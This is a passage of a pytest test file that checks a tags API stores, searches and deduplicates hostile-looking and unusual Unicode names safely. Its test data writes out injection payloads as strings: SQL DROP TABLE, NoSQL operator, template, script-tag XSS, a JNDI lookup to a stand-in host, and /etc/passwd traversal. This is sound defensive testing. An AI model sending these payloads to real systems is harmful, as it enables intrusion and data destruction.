    pytest.param("Robert'); DROP TABLE tags;--", id="sql"),
    pytest.param('{"$gt": ""}', id="nosql-operator"),
    pytest.param("{{7*7}} ${7*7} <%= 7*7 %>", id="templates"),
    pytest.param("<script>alert(1)</script>", id="script-tag"),
    pytest.param("${jndi:ldap://evil/x}", id="jndi"),
    pytest.param("T#acme#TAG#01ARZ3NDEKTSV4RRFFQ69G5FAV", id="storage-key-lookalike"),
    pytest.param("../../etc/passwd", id="traversal"),
    pytest.param("attribute_exists(PK) OR :v = #n", id="dynamodb-expression"),
    pytest.param("🔥 Hot Lead", id="emoji"),
    pytest.param("👩\u200d👩\u200d👧 family", id="emoji-zwj-sequence"),
    pytest.param("❤\ufe0f 🇫🇷", id="emoji-variation-selector-and-flag"),
    pytest.param("Z\u0335\u0321a\u0337l\u0336g\u0334o\u0338", id="zalgo"),
    pytest.param("e\u0301cole", id="combining-acute-to-nfc"),
    pytest.param("\u0915\u094d\u0937\u093f", id="devanagari-conjunct"),
]


@pytest.mark.parametrize("raw", ACCEPTED_NAMES)
def test_hostile_looking_names_round_trip(invoke: Invoke, raw: str, table: str) -> None:
    stored = unicodedata.normalize("NFC", raw)
    created = invoke("POST", "/tags", body={"name": raw, "description": raw})
    assert created.status == 201, created.json
    tag = created.data
    assert (tag["name"], tag["description"]) == (stored, raw)
    assert created.headers["Content-Type"].startswith("application/json")
    assert re.fullmatch(r"[^\s/?#%\\]+", tag["name_slug"]), tag["name_slug"]

    fetched = invoke("GET", f"/tags/{tag['id']}")
    assert fetched.status == 200 and fetched.data == tag
    found = invoke("GET", "/tags", query={"q": stored[:3]})
    assert found.status == 200 and [t["id"] for t in found.data] == [tag["id"]]

    again = invoke("POST", "/tags", body={"name": raw.upper()})  # the same name (casefold) is taken
    assert_error(again, 409, "tag_exists", "name")
    assert again.json["errors"][0]["existing_id"] == tag["id"]

    attached = invoke("POST", "/conversations/c-1/tags", body={"tags": [raw]})  # found by its name, not re-created
    assert attached.status == 200, attached.json
    assert [t["id"] for t in attached.data] == [tag["id"]]
    assert invoke("GET", "/tags").json["meta"]["total"] == 1
    assert len([i for i in scan(table) if i.get("item_type", {}).get("S") == "tag"]) == 1
